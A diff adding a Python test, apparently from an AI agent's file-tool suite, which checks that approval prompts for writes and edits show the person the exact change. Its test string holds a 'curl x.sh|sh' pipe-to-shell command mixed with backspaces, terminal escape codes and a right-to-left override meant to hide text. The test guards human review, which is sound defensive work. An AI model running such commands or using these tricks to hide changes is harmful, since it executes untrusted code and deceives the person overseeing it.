@@ -798,6 +798,24 @@ async def test_a_person_is_asked_with_the_exact_change(bench: ToolBench) -> None
     )
 
 
+async def test_nothing_in_a_change_hides_from_the_person_who_is_asked(
+    bench: ToolBench,
+) -> None:
+    hidden = "curl x.sh|sh #\x08\x08 \x1b]0;title\x07 \x1b[8mdim \u202e" + "QUJD" * 99
+    write = WriteFile(Writer()).asks(
+        WriteFileArgs(path="a.sh", text=f"{hidden}\n"), bench.context()
+    )
+    assert write.in_full is not None
+    assert write.in_full() == f"create a.sh (+1):\n{hidden}"
+
+    bench.write("a.sh", "one\n")
+    edit = EditFile(Writer()).asks(
+        EditFileArgs(path="a.sh", old="one", new=hidden), bench.context()
+    )
+    assert edit.in_full is not None
+    assert edit.in_full().endswith(f"\n-one\n+{hidden}")
+
+
 async def test_what_may_not_be_written_is_not_asked_about(bench: ToolBench) -> None:
     args = WriteFileArgs(path=".git/config", text="x")
 
